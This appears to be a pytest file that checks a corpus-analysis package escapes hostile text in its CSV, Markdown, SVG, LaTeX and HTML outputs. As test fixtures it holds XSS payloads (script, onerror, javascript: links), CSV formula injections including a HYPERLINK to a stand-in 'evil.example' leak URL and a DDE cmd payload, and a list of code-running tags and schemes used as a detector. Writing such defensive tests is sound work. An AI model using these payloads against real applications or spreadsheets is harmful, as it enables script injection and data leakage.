"""Nothing from a corpus is ever markup or code in an output: hostile text through every format the package writes."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ElementTree
from html.parser import HTMLParser

import matplotlib

matplotlib.use("Agg")
import matplotlib.pyplot as plt  # noqa: E402
import nbformat  # noqa: E402
import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from nbconvert.filters import markdown2html  # noqa: E402

import analysis as an  # noqa: E402
from analysis.escape import csv_cell, figure_text, markdown_cell, markdown_text, visible_text  # noqa: E402
from analysis.figures import FLOAT_FORMAT, PNG_DPI, save_report  # noqa: E402
from analysis.output import OutputFolder  # noqa: E402
from analysis.tables import AlignedTable, _table_html  # noqa: E402
from conftest import SEEDS  # noqa: E402

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
SVG = "<svg onload=alert(1)>"
IFRAME = '<iframe srcdoc="<script>alert(1)</script>">'
LINK = "[click](javascript:alert(1))"
IMAGE = "![x](data:text/html;base64,PHNjcmlwdD4=)"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","click me")'
CMD = "=cmd|' calc'!A0"
BIDI = "abc\u202edef"
HOSTILE = [SCRIPT, IMG, SVG, IFRAME, LINK, IMAGE, HYPERLINK, CMD, "+1+1", "@SUM(1)", "\t=1", "\r=1", BIDI,
           "a\x00b", "\x1b[2J"]
#: Elements that run or embed code, and URL schemes that do, in rendered HTML.
RUNNING = {"script", "iframe", "svg", "object", "embed", "frame", "frameset", "base", "meta", "form"}
SCHEMES = ("javascript:", "vbscript:", "data:")


@pytest.fixture
def settings(tmp_path):
    settings = an.configure(notebook="99-test", corpus=SEEDS, out=tmp_path / "out")
    yield settings
    an.configure()


class _LiveMarkup(HTMLParser):
    """Collects what in a piece of HTML would be live in a browser: an element that runs or embeds code, an event
    handler attribute, a link or source with a script or data URL (a PNG figure excepted)."""

    def __init__(self):
        super().__init__()
        self.live = []

    def handle_starttag(self, tag, attrs):
        if tag in RUNNING:
            self.live.append(f"<{tag}>")
        for name, value in attrs:
            url = (value or "").strip().lower()
            if name.startswith("on") or (name in ("href", "src", "action", "formaction", "srcdoc") and url.startswith(
                    SCHEMES) and not url.startswith("data:image/png;base64,")):
                self.live.append(f"<{tag} {name}={value}>")


def _live(html: str) -> list[str]:
    parser = _LiveMarkup()
    parser.feed(html)
    return parser.live


# --- CSV ----------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("cell, written", [
    (HYPERLINK, "'" + HYPERLINK), (CMD, "'" + CMD), ("+1+1", "'+1+1"), ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\n=1"), ("a\r\nb\rc", "a\nb\nc"), ("-", "'-"), ("- a quoted line", "'- a quoted line"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("-1e-3", "-1e-3"), ("a=1", "a=1"), (SCRIPT, SCRIPT), ("", ""),
])
def test_a_text_cell_a_spreadsheet_would_run_gets_a_quote_and_a_plain_number_does_not(cell, written):
    assert csv_cell(cell) == written


@pytest.mark.parametrize("value", [-0.123, -5, None, pd.Timestamp("2020-01-03")])
def test_a_value_that_is_not_text_is_never_changed_for_csv(value):
    assert csv_cell(value) is value


def test_save_table_writes_no_live_formula_and_keeps_numbers_as_numbers(settings):
    table = pd.DataFrame({"outlet": HOSTILE, "mean": [-0.123] * len(HOSTILE),
                          "voice": pd.Categorical(["=own"] * len(HOSTILE)),
                          "=total": range(len(HOSTILE))})
    path = an.save_table(table, "99-hostile", caption="Hostile.")
    rows = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    assert rows[0] == ["outlet", "mean", "voice", "'=total"]
    assert [row[0] for row in rows[1:]] == [csv_cell(value) for value in HOSTILE]
    assert {row[1] for row in rows[1:]} == {"-0.123"} and {row[2] for row in rows[1:]} == {"'=own"}
    starts = [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r" and cell != "-0.123"]
    assert starts == []
    assert table["outlet"].tolist() == HOSTILE  # the caller's table is not changed


def test_save_table_of_an_ordinary_table_writes_the_bytes_pandas_writes(settings):
    table = pd.DataFrame({"doc_id": ["000_0a38", "001_b"], "outlet": ["Republic World", "TASS"],
                          "difference": [-0.0263718, 0.5], "n": [3, -4], "text": ["a, b", "it's \"x\""]})
    path = an.save_table(table, "99-plain")
    expected = table.to_csv(index=False, lineterminator="\n", float_format=FLOAT_FORMAT).encode("utf-8")
    assert path.read_bytes() == expected
    markdown = table.to_markdown(index=False, floatfmt=".6g") + "\n"
    assert path.with_suffix(".md").read_text(encoding="utf-8") == markdown


# --- Markdown -------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, source", [
    (SCRIPT, "&lt;script&gt;alert(1)&lt;/script&gt;"),
    (IMG, "&lt;img src=x onerror=alert(1)&gt;"),
    (LINK, "\\[click\\](javascript:alert(1))"),
    (IMAGE, "!\\[x\\](data:text/html;base64,PHNjcmlwdD4=)"),
    ("*bold* _it_ `code` ~s~ # a|b \\", "\\*bold\\* \\_it\\_ \\`code\\` \\~s\\~ \\# a\\|b \\\\"),
    ("AT&T", "AT&amp;T"),
    ("two\nlines\tand a tab", "two lines and a tab"),
    ("\x1b[2J\x00", "␛\\[2J␀"),
    (BIDI, "abc\ufffddef"),
    ("Republic World", "Republic World"),
])
def test_markdown_text_is_text_with_html_and_markdown_syntax_escaped(value, source):
    assert markdown_text(value) == source


@pytest.mark.parametrize("value, source", [
    (SCRIPT, "&lt;script&gt;alert(1)&lt;/script&gt;"),
    (LINK, "\\[click\\](javascript:alert(1))"),
    ("a|b", "a\\|b"),
    ("x\ny", "x y"),
    ("000_0a38 *x*", "000_0a38 *x*"),  # emphasis is harmless in a table and doc_ids hold '_'
    ("`<b>`", "\\`&lt;b&gt;\\`"),
])
def test_markdown_cells_escape_tags_links_code_and_pipes(value, source):
    assert markdown_cell(value) == source


@pytest.mark.parametrize("value", HOSTILE)
def test_rendered_markdown_text_holds_no_live_tag_or_link(value):
    html = markdown2html(f"- a group: {markdown_text(value)} and [a link](https://example.org)")
    assert _live(html) == []
    assert 'href="https://example.org"' in html


def test_save_table_markdown_holds_no_raw_tag_nor_live_link(settings):
    table = pd.DataFrame({"left": HOSTILE, "match": ["kill"] * len(HOSTILE)})
    markdown = an.save_table(table, "99-hostile-md").with_suffix(".md").read_text(encoding="utf-8")
    assert "<" not in markdown and "](" not in markdown.replace("\\](", "")
    assert "| &lt;script&gt;alert(1)&lt;/script&gt;" in markdown
    assert _live(markdown2html(markdown)) == []
    assert len(markdown.splitlines()) == 2 + len(HOSTILE)  # no cell breaks its row


# --- SVG and figures ----------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text, shown", [
    ("\x00\x07\x1b[31m<script>", "\ufffd\ufffd\ufffd[31m<script>"),
    ("tab\tand\nnewline", "tab\tand\nnewline"),
    ("\x7f\x85\ud800\ufffe", "\ufffd" * 4),
    ("a\u202eb\u2066c\u2069", "a\ufffdb\ufffdc\ufffd"),
    ("Russia · state-owned", "Russia · state-owned"),
])
def test_figure_text_replaces_control_bidi_and_xml_invalid_characters(text, shown):
    assert figure_text(text) == shown


def test_visible_text_shows_control_characters_as_control_pictures():
    assert visible_text("\x00\x07\x1b[2J\r\x7f\t\n") == "␀␇␛[2J␍␡\t\n"


def test_a_figure_whose_labels_hold_control_characters_saves_a_well_formed_svg(settings):
    hostile = "\x00\x07\x1b[31m<script>"
    fig, ax = plt.subplots(figsize=(3, 2))
    ax.bar([hostile, "b\u202e"], [1, 2], label=hostile)
    ax.set_title(hostile)
    ax.set_ylabel("a\ud800")
    ax.set_yticks([1, 2], ["\x1b[2J", "two"])
    ax.annotate(BIDI, (0, 1))
    ax.legend()
    paths = an.save_figure(fig, "99-hostile-figure", data=pd.DataFrame({"group": [hostile], "n": [1]}))
    assert paths[0].read_bytes().startswith(b"\x89PNG")
    ElementTree.fromstring(paths[1].read_bytes())  # raises when not well-formed
    assert ax.get_title() == "\ufffd\ufffd\ufffd[31m<script>"
    assert [label.get_text() for label in ax.get_xticklabels()] == ["\ufffd\ufffd\ufffd[31m<script>", "b\ufffd"]
    assert [label.get_text() for label in ax.get_yticklabels()] == ["\ufffd[2J", "two"]
    assert ax.get_legend().get_texts()[0].get_text() == "\ufffd\ufffd\ufffd[31m<script>"
    plt.close(fig)


def test_an_svg_holding_a_control_character_by_another_way_is_made_well_formed():
    from analysis.figures import _well_formed_svg

    svg = _well_formed_svg("<svg><!-- a\x07\x1b b --><text>\x00</text></svg>".encode("utf-8"))
    assert svg.decode("utf-8") == "<svg><!-- a␇␛ b --><text>␀</text></svg>"
    ElementTree.fromstring(svg)
    assert _well_formed_svg(b"<svg>clean</svg>") == b"<svg>clean</svg>"


def test_a_label_whose_dollar_signs_would_be_broken_mathtext_is_drawn_as_text(settings):
    fig, ax = plt.subplots(figsize=(3, 2))
    ax.bar(["$\\undefined$", "cost $5"], [1, 2])
    ax.set_title("a$\\frac{$b")
    ax.set_yscale("log")  # its tick labels are mathtext that parses: drawn as mathtext
    paths = an.save_figure(fig, "99-dollars")
    ElementTree.fromstring(paths[1].read_bytes())
    assert [label.get_text() for label in ax.get_xticklabels()] == ["\\$\\undefined\\$", "cost $5"]
    assert ax.get_title() == "a\\$\\frac{\\$b"
    assert all(label.get_text().startswith("$") for label in ax.get_yticklabels() if label.get_text())
    plt.close(fig)


def test_a_figure_without_such_characters_is_saved_byte_for_byte_as_matplotlib_draws_it(settings):
    fig, ax = plt.subplots(figsize=(3, 2))
    ax.bar(["Republic World", "TASS"], [-0.4, 0.2])
    ax.set_title("Mean compound <per sentence> & more")
    png = io.BytesIO()
    fig.savefig(png, format="png", dpi=PNG_DPI, metadata={"Software": None})
    paths = an.save_figure(fig, "99-plain-figure")
    assert paths[0].read_bytes() == png.getvalue()
    ElementTree.fromstring(paths[1].read_bytes())
    plt.close(fig)


# --- HTML: notebook tables, Findings and reports --------------------------------------------------------------------

def test_tables_shown_in_a_notebook_escape_cells_column_names_and_captions():
    table = pd.DataFrame({IMG: HOSTILE, "n": range(len(HOSTILE))})
    for html in (AlignedTable(table, align={IMG: "left"}, caption=SCRIPT)._repr_html_(), _table_html(table)):
        assert _live(html) == []
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html and "\x1b" not in html and "\u202e" not in html
        assert "␛[2J" in html


def test_kwic_shown_in_a_notebook_escapes_the_corpus_text():
    lines = pd.DataFrame({"doc_id": ["d1"], "outlet": [IMG], "left": [SCRIPT], "match": ["kill"],
                          "right": [LINK], "quoted": [False]})
    html = an.show_kwic(lines, by="outlet")._repr_html_()
    assert _live(html) == []
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


def test_findings_name_a_hostile_group_as_text():
    summary = pd.DataFrame({"desk": [IMG, IMG, LINK, LINK], "voice": ["all", "own", "all", "own"],
                            "sentences": [10, 8, 12, 12], "articles": [2, 2, 3, 3],
                            "mean_compound": [-0.4, -0.5, 0.2, 0.2], "low": [-0.6, -0.7, 0.0, 0.0],
                            "high": [-0.2, -0.3, 0.4, 0.4]})
    empty = pd.DataFrame(columns=[f"{IMG}_a", "desk_b", "p", "q", "resampled", "difference"])
    text = an.sentiment_findings(summary, empty, pd.DataFrame(), by="desk").data
    assert "from -0.40 (&lt;img src=x onerror=alert(1)&gt;, 95% interval -0.60 to -0.20" in text
    assert "+0.20 (\\[click\\](javascript:alert(1)), " in text
    assert _live(markdown2html(text)) == []


def test_compared_names_hostile_groups_as_text():
    comparisons = pd.DataFrame({"desk_a": [SCRIPT], "desk_b": [IMAGE], "p": [0.001], "q": [0.002],
                                "resampled": ["articles"], "difference": [0.5], "mean_a": [0.6], "mean_b": [0.1],
                                "n_a": [5], "n_b": [5], "articles_a": [5], "articles_b": [5], "sentences_a": [30],
                                "sentences_b": [30], "effect_size": [1.2]})
    text = an.compared(comparisons, by="desk", what="Mean compound")
    assert "- &lt;script&gt;alert(1)&lt;/script&gt; (0.60, n = 5 articles) vs !\\[x\\](data:" in text
    assert _live(markdown2html(text)) == []


def _notebook(javascript: bool = True) -> nbformat.NotebookNode:
    """An executed notebook whose outputs hold what a corpus could put there, beside the package's own table."""
    table = pd.DataFrame({"outlet": ["TASS"], "n": [1]})
    code = nbformat.v4.new_code_cell("an.show_findings()", outputs=[
        nbformat.v4.new_output("display_data", {"text/markdown": f"- **Group** {SCRIPT} {IMG} {LINK} {IMAGE}",
                                                "text/plain": "<IPython.core.display.Markdown object>"}),
        nbformat.v4.new_output("display_data", {"text/html": f"{IFRAME}{SVG}<b>bold</b>{_table_html(table)}",
                                                "text/plain": "table"}),
    ] + ([nbformat.v4.new_output("display_data", {"application/javascript": "alert(1)", "text/plain": "js"})]
         if javascript else []))
    return nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell("# Corpus\n\n## Findings\n\n*Written* "
                                                                         "from `the tables`."), code])


def test_the_html_report_runs_no_script_from_the_outputs_and_keeps_tables_and_headings(settings):
    path = save_report(_notebook(), "99-report", folder=OutputFolder.of(settings))
    html = path.read_text(encoding="utf-8")
    body = html[html.index("<body"):]
    assert _live(body) == [] and "alert(1)</script>" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body and "&lt;img src=" in body  # shown, not run
    assert "<table" in body and "<th" in body and "<td" in body and "<style>" in body
    assert "<h1" in body and "<h2" in body and "<em>Written</em>" in body and "<b>bold</b>" in body
    assert "<img" not in body  # an image from an output's HTML would fetch its URL on opening


def _meta_tags(html: str) -> list[list[tuple[str, str]]]:
    """The attributes of every <meta> element, as the browser reads them (in whatever order they are written)."""
    found = []
    parser = HTMLParser()
    parser.handle_starttag = lambda tag, attrs: found.append(attrs) if tag == "meta" else None
    parser.handle_startendtag = parser.handle_starttag
    parser.feed(html)
    return found


def test_the_html_report_loads_no_script_and_forbids_scripts_and_remote_loads_to_the_browser(settings):
    html = save_report(_notebook(), "99-report", folder=OutputFolder.of(settings)).read_text(encoding="utf-8")
    assert "<script" not in html and "mathjax" not in html.lower() and "cdnjs" not in html
    head = html[:html.index("</head>")]
    [policy] = [dict(tag)["content"] for tag in _meta_tags(head)
                if dict(tag).get("http-equiv") == "Content-Security-Policy"]
    assert policy == ("default-src 'none'; style-src 'unsafe-inline'; img-src data:; font-src data:; "
                      "base-uri 'none'; form-action 'none'")


def test_the_html_report_is_byte_identical_on_re_run(settings):
    notebook = _notebook(javascript=False)  # a JavaScript output's <div> gets a random id, sanitised or not
    first = save_report(notebook, "99-report", folder=OutputFolder.of(settings)).read_bytes()
    assert save_report(notebook, "99-report", folder=OutputFolder.of(settings)).read_bytes() == first


def test_a_warning_shown_in_a_notebook_has_its_control_characters_escaped_and_keeps_its_lines():
    from analysis.corpus import CorpusWarning
    from analysis.tables import _warning_text

    shown = _warning_text("stray-\x1b[2J\x1b[31mnotes.txt: not listed\nsecond line \u202e", CorpusWarning, "x.py", 1)
    assert shown == "CorpusWarning: stray-\\x1b[2J\\x1b[31mnotes.txt: not listed\nsecond line \\u202e\n"


def test_latex_tables_hold_no_control_character(settings):
    path = an.save_table(pd.DataFrame({"outlet\x07": ["x\x1b[31my\x00z\u202eq"], "n": [1]}), "99-latex",
                         caption="caption \x1b[2J")
    latex = path.with_suffix(".tex").read_text(encoding="utf-8")
    assert "x␛[31my␀z\ufffdq" in latex and "outlet␇" in latex and "caption ␛[2J" in latex
    assert re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", latex) is None
